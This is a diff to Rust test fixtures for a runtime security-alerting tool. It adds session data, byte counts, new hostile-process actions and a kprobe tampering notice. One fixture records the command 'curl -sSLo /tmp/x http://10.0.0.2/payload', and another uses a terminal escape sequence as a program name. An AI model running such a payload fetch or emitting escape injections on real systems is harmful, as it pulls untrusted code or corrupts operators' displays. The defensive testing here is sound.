@@ -9,13 +9,13 @@ use uuid::Uuid;
 
 use crate::alert::{
     Action, Aggregate, Alert, Coverage, Detection, HookCoverage, LedgerRow, Loss, Message, Notice, Place,
-    Step, Stopped, Subject, Target, Window,
+    Step, Stopped, Subject, Tampering, Target, Window,
 };
-use crate::event::{Direction, Protocol};
+use crate::event::{Body, Direction, Event, Protocol};
 use crate::sigma::Level;
 use crate::sink::Origin;
 use crate::state::container::{Container, Pod, Runtime};
-use crate::state::process::{Executable, Process, ProcessKey};
+use crate::state::process::{Executable, Process, ProcessKey, Session};
 
 const MILLISECOND: u64 = 1_000_000;
 const ADDRESS: IpAddr = IpAddr::V4(Ipv4Addr::new(10, 0, 0, 2));
@@ -58,6 +58,7 @@ fn process(pid: u32, path: &str, arguments: &[&str], container: Option<&str>) ->
         executable: Executable { path: path.to_owned(), ..Executable::default() },
         arguments: arguments.iter().map(|argument| (*argument).to_owned()).collect::<Vec<_>>().into(),
         arguments_truncated: false,
+        session: Session::default(),
         directory: Some("/srv".to_owned()),
         comm: path.rsplit('/').next().unwrap_or(path).chars().take(15).collect(),
         uid: 0,
@@ -124,7 +125,10 @@ pub(crate) fn alert() -> Alert {
                 Action::Executed { command_line: "curl -sSLo /tmp/x http://10.0.0.2/payload".to_owned() },
             ),
             step(12, Action::Connected { place: place(None), direction: Direction::Outbound }),
-            step(15, Action::Wrote { path: "/tmp/x".to_owned() }),
+            step(
+                15,
+                Action::Wrote { path: "/tmp/x".to_owned(), bytes: Some(1_258_291), size: Some(1_258_291) },
+            ),
             step(19, Action::Disconnected { place: place(None), bytes_sent: 92, bytes_received: 1_258_291 }),
             step(20, Action::Exited { status: Some(0), signal: None }),
         ],
@@ -132,6 +136,12 @@ pub(crate) fn alert() -> Alert {
         bytes_omitted: (0, 0),
         pending: Vec::new(),
     }
+}
+
+/// A program that started in a container.
+pub(crate) fn event() -> Event {
+    let Alert { process, ancestors, container, user, .. } = alert();
+    Event { time: 0, process, ancestors, container, user, body: Body::ProcessCreation }
 }
 
 fn place(name: Option<&str>) -> Place {
@@ -179,6 +189,8 @@ fn hostile_process(pid: u32) -> Arc<Process> {
             path: hostile_text(),
             invoked: Some(hostile_text() + "i"),
             applet: Some(hostile_text() + "a"),
+            loaded: Some(hostile_text() + "l"),
+            interpreter: Some(hostile_text()),
             memfd: true,
             deleted: true,
             upper_layer: true,
@@ -186,6 +198,13 @@ fn hostile_process(pid: u32) -> Arc<Process> {
         },
         arguments: (0..6).map(|_| hostile_text()).collect::<Vec<_>>().into(),
         arguments_truncated: true,
+        session: Session {
+            login_uid: Some(4_000_000_000),
+            terminal: Some(hostile_text()),
+            environment: vec![hostile_text(); 8],
+            by_thread: true,
+            ..Session::default()
+        },
         directory: Some(hostile_text()),
         comm: hostile_text(),
         effective_uid: 0,
@@ -225,7 +244,11 @@ pub(crate) fn hostile() -> Alert {
         Action::Opened { path: hostile_text() },
         Action::Connected { place: place(Some(&hostile_text())), direction: Direction::Unknown },
         Action::Failed { place: place(Some(&hostile_text())), error: 0 },
-        Action::Wrote { path: hostile_text() },
+        Action::Wrote { path: hostile_text(), bytes: Some(u64::MAX), size: Some(0) },
+        Action::Linked { from: hostile_text(), to: hostile_text() + "l" },
+        Action::Deleted { path: hostile_text() },
+        Action::MadeExecutable { path: hostile_text() },
+        Action::Read { path: hostile_text() },
         Action::Renamed { from: hostile_text(), to: hostile_text() + "r" },
         Action::Exited { status: None, signal: Some(9) },
     ];
@@ -309,6 +332,18 @@ pub(crate) fn aggregation() -> Message {
         row("network_connect", 980_000, Target::Destination(place(None)), inside.clone()),
         row("network_connect", 75, Target::Others, inside),
         row("file_open", 1_200, process, None),
+    ]))
+}
+
+pub(crate) fn tampering() -> Message {
+    notice(Subject::Tampering(vec![
+        Tampering::Detached { program: "connect4".to_owned() },
+        Tampering::Loaded {
+            id: 812,
+            kind: "kprobe".to_owned(),
+            name: "hide\u{1b}[2J".to_owned(),
+            uid: Some(0),
+        },
     ]))
 }
 
